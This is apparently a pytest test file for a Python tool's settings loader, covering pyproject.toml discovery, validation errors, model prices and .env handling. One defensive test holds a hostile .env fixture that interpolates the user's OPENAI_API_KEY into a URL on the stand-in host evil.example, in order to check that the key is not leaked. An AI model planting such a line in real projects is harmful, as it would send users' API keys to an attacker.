"""Where a project is, and what it has set."""

import tomllib
from decimal import Decimal
from pathlib import Path

import pytest
from helpers import write
from hypothesis import given
from hypothesis import strategies as st

from workbench.errors import SettingsError
from workbench.settings import Price, Settings, environment, find_project, model_table, toml_string


def test_a_project_is_found_from_a_folder_below_it(tmp_path: Path) -> None:
    write(tmp_path, {"pyproject.toml": '[tool.workbench]\nmodel = "m"', "a/b/c.txt": ""})
    project = find_project(tmp_path / "a" / "b")
    assert (project.root, project.settings.model) == (tmp_path.resolve(), "m")


def test_a_pyproject_of_something_else_is_passed_over(tmp_path: Path) -> None:
    write(tmp_path, {"pyproject.toml": "[tool.workbench]", "inner/pyproject.toml": "[tool.ruff]"})
    assert find_project(tmp_path / "inner").root == tmp_path.resolve()


def test_an_empty_table_makes_a_project(tmp_path: Path) -> None:
    write(tmp_path, {"pyproject.toml": "[tool.workbench]"})
    assert find_project(tmp_path).settings == Settings()


def test_outside_a_project_the_error_says_what_would_make_one(tmp_path: Path) -> None:
    with pytest.raises(SettingsError, match=r"\[tool\.workbench\] table"):
        find_project(tmp_path)


@pytest.mark.parametrize(
    ("content", "says"),
    [
        ("[tool.workbench]\nmodle = 1", "modle: Extra inputs"),
        ("[tool.workbench]\nconcurrency = 0", "concurrency: Input should be greater"),
        ("[tool.workbench]\ntimeout = 0", "timeout: Input should be greater"),
        ("[tool.workbench.endpoint]\nkey_variable = 'X'", r"endpoint\.base_url: Field required"),
        ("[tool.workbench.endpoint]\nbase_url = 'https://x'\nkey = 'sk-1'", r"endpoint\.key: Extra inputs"),
        ("[tool.workbench.models.a]\nstrikt = true", r"models\.a\.strikt: Extra inputs"),
        ("[tool.workbench.models.a]\nname = ''", r"models\.a\.name: String should have at least 1"),
        ("[tool.workbench.models.a]\nmax_tokens_field = 'n_predict'", r"max_tokens_field: Input should be 'max_comp"),
        ("[tool.workbench.models.a]\nmode = 'yaml'", r"models\.a\.mode: Input should be 'json_schema'"),
        ("[tool.workbench.models.a]\nrequests_per_minute = 0", r"requests_per_minute: Input should be greater"),
        ("[tool.workbench.models.a]\nkey_variable = 'WORKBENCH_A'", r"key_variable goes with a base_url"),
        ("[tool.workbench.models.a]\nprice = 1", r"models\.a\.price: Input should be a valid dictionary"),
        ("[tool.workbench.models.a.price]\ninput = 1", r"models\.a\.price\.output: Field required"),
        ("[tool.workbench.models.a.price]\ninput = -1\noutput = 1", r"price\.input: Input should be greater"),
        ("[tool.workbench.models.a.price]\ninput = nan\noutput = 1", r"price\.input: Input should be a finite"),
        ("[tool.workbench.models.a.price]\ninput = inf\noutput = 1", r"price\.input: Input should be a finite"),
        ("[tool.workbench.models.a.price]\ninput = true\noutput = 1", r"price\.input: "),
        (
            "[tool.workbench.models.a]\nprice = {input = 1, output = 1, currency = 'won'}",
            r"currency: String should match",
        ),
        ("[tool]\nworkbench = 3", "should be a valid dictionary"),
        ("[tool.workbench", "no valid TOML"),
        (b"[tool.workbench]\nmodel = '\xff'", "no valid TOML"),
    ],
)
def test_wrong_settings_are_refused_and_named(tmp_path: Path, content: str | bytes, says: str) -> None:
    write(tmp_path, {"pyproject.toml": content})
    with pytest.raises(SettingsError, match=says):
        find_project(tmp_path)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("[tool.workbench]\nmodle = 1", "concurrency"),
        ("[tool.workbench.endpoint]\nurl = 1", "base_url, key_variable"),
        ("[tool.workbench.models.a]\nstrikt = true", "max_tokens_field"),
        ("[tool.workbench.models.a.price]\nin = 1\ninput = 1\noutput = 1", "input, output, cached, currency"),
    ],
)
def test_a_wrong_setting_is_answered_with_the_names_that_stand_in_its_table(
    tmp_path: Path, content: str, expected: str
) -> None:
    write(tmp_path, {"pyproject.toml": content})
    with pytest.raises(SettingsError) as caught:
        find_project(tmp_path)
    assert expected in caught.value.expected


def test_a_models_price_is_the_number_that_is_written(tmp_path: Path) -> None:
    price = "price = { input = 0.15, output = 0.60, cached = 0.075, currency = 'KRW' }"
    write(tmp_path, {"pyproject.toml": f"[tool.workbench]\ntimeout = 1.5\n[tool.workbench.models.small]\n{price}"})
    settings = find_project(tmp_path).settings
    written = Price(input=Decimal("0.15"), output=Decimal("0.60"), cached=Decimal("0.075"), currency="KRW")
    assert (settings.models["small"].price, settings.timeout) == (written, 1.5)


@given(st.text(min_size=1))
def test_any_name_can_stand_in_a_heading_and_in_a_string_and_obeys_no_terminal(name: str) -> None:
    written = f"{model_table(name)}\nname = {toml_string(name)}"
    assert all(letter.isprintable() or letter == "\n" for letter in written)
    assert tomllib.loads(written)["tool"]["workbench"]["models"] == {name: {"name": name}}


@pytest.mark.parametrize("content", ["tool = 3", "[tool]", "", "[project]\nname = 'x'"])
def test_a_pyproject_without_our_table_makes_no_project(tmp_path: Path, content: str) -> None:
    write(tmp_path, {"pyproject.toml": content})
    with pytest.raises(SettingsError, match="no workbench project"):
        find_project(tmp_path)


def test_a_path_is_the_projects_unless_it_is_absolute(tmp_path: Path) -> None:
    project = find_project(write(tmp_path, {"pyproject.toml": "[tool.workbench]"}))
    assert project.path("runs") == tmp_path.resolve() / "runs"
    assert project.path("/elsewhere") == Path("/elsewhere")


def test_dotenv_and_environment_are_kept_apart(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-person")
    write(tmp_path, {".env": "OPENAI_API_KEY=sk-file\nexport OTHER='two words'\nBARE\n"})
    environ, dotenv = environment(tmp_path)
    assert environ["OPENAI_API_KEY"] == "sk-person"
    assert dotenv == {"OPENAI_API_KEY": "sk-file", "OTHER": "two words"}


def test_no_dotenv_is_no_variables(tmp_path: Path) -> None:
    assert environment(tmp_path)[1] == {}


def test_a_dotenv_cannot_take_up_the_environments_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A project that brings both the address and `WORKBENCH_MY_KEY=${OPENAI_API_KEY}` gets the words, not the key."""
    monkeypatch.setenv("OPENAI_API_KEY", "sk-person")
    write(
        tmp_path,
        {".env": "WORKBENCH_MY_KEY=${OPENAI_API_KEY}\nOPENAI_BASE_URL=https://evil.example/${OPENAI_API_KEY}\n"},
    )
    assert not any("sk-person" in value for value in environment(tmp_path)[1].values())


def test_a_dotenv_that_is_no_text_is_refused(tmp_path: Path) -> None:
    write(tmp_path, {".env": "이름=값".encode("cp949")})
    with pytest.raises(SettingsError, match="UTF-8"):
        environment(tmp_path)
